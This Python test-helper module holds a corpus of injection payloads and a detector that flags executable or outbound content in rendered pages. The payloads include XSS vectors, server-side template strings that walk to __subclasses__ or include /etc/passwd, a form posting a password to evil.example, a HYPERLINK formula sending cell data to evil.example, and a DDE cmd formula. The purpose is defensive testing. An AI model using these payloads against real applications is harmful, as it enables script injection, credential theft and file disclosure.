"""Words that somebody would write to have them run: one list for every door they may take.

Markup marks the window with `owned` if a browser runs it; a template that is computed
gives 1337; formulas are what spreadsheets run. From the corpora that testers use (OWASP
XSS Filter Evasion and CSV Injection, PayloadsAllTheThings; read 2026-11-21) by kind of
door, shortened.
"""

import re
from collections.abc import Iterator

from lxml import html as lxml_html

MARKUP = (
    "<script>window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    "</title></head><body onload=window.owned=1>",
    "</textarea><script>window.owned=1</script>",
    "</style><script>window.owned=1</script>",
    "--><script>window.owned=1</script><!--",
    "]]><script>window.owned=1</script>",
    "<![endif]--><img src=x onerror=window.owned=1>",
    '"><img src=x onerror=window.owned=1>',
    "'><svg/onload=window.owned=1>",
    '" autofocus onfocus=window.owned=1 x="',
    "' onmouseover='window.owned=1",
    "`onload=window.owned=1",
    "<img src=x:x onerror=window.owned=1//",
    "<details open ontoggle=window.owned=1>",
    "<video><source onerror=window.owned=1></video>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data='data:text/html,<script>window.owned=1</script>'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<a href=javascript:window.owned=1>here</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=/x>",
    "<form action=https://evil.example/><input name=password></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<p style=\"background:url('javascript:window.owned=1')\">",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.owned=1\uff1c/script\uff1e",
    "<scr\x00ipt>window.owned=1</scr\x00ipt>",
    "<script\u2028>window.owned=1</script>",
    "\u202e<script>window.owned=1</script>",
    "<x hx-get=https://evil.example/ hx-trigger=load>",
    "javascript:window.owned=1",
    "JaVaScRiPt&colon;window.owned=1",
    "data:text/html,<script>window.owned=1</script>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*191 }}", "{{7*'7'}}", "{% for a in range(9) %}{{a}}{% endfor %}", "{# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ config }}{{ self }}",
    "{% include '/etc/passwd' %}", "{% raw %}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "@(7*191)",
    "%(city)s %(nothing)s 100%", "%s%s%n", "{0}{uid}{name.__class__}", "$name ${name}",
    "*|UNSUB|* *|EMAIL|*", "{{{pm:unsubscribe}}}", "%recipient.email% %unsubscribe_url%",
    "{{params.leave}} {{contact.EMAIL}}", "{{amazonSESUnsubscribeUrl}}", "[[email]] -leave-",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1",
    "\n=1+1", '=HYPERLINK("https://evil.example/?"&A1,"here")', "=IMPORTXML(A1)",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "'=1+1", '"=1+1', "\u00a0=1+1",
)  # fmt: skip
CORPUS = (*MARKUP, *TEMPLATES, *FORMULAS)

_RUNS = {"script", "iframe", "object", "embed", "applet", "base", "frame", "portal"}
_LEADS = ("href", "src", "action", "formaction", "data", "poster", "srcdoc", "background",
          "xlink:href")  # fmt: skip
_SCHEME = re.compile(r"\s*(javascript|vbscript|data)\s*:", re.IGNORECASE)


def dangers(page: str, *, own: str = "/console/static/") -> list[str]:
    """Return what of a page would run, leads somewhere bad, or was computed.

    A script of ours begins with `own`; a page's own data (JSON) is no script. A frame
    that may do nothing shows one of our messages.
    """
    return list(_dangers(page, own))


def _is_shut(frame: lxml_html.HtmlElement) -> bool:
    return (
        frame.tag == "iframe"
        and frame.get("sandbox") == ""
        and frame.get("src", "").startswith("/console/calls/")
        and "srcdoc" not in frame.attrib
    )


def _dangers(page: str, own: str) -> Iterator[str]:
    # Comments for old Outlook are no comments to it.
    seen = re.sub(r"<!--\[if [^\]]*\]>|<!\[endif\]-->", "", page)
    for element in lxml_html.document_fromstring(seen).iter():
        if not isinstance(element.tag, str):
            continue
        ours = element.get("src", "").startswith(own)
        data = element.get("type") == "application/ld+json"
        if element.tag in _RUNS and not (ours or data or _is_shut(element)):
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            if name.startswith("on"):
                yield f"{name} of <{element.tag}>"
            elif (name in _LEADS and _SCHEME.match(value)) or (
                "evil.example" in value and name in (*_LEADS, "hx-get", "content")
            ):
                yield f"{name}={value[:40]}"
            elif name == "style" and re.search("expression|javascript", value):
                yield f"style={value[:40]}"
    if "1337" in page:
        yield "1337: a template was computed"
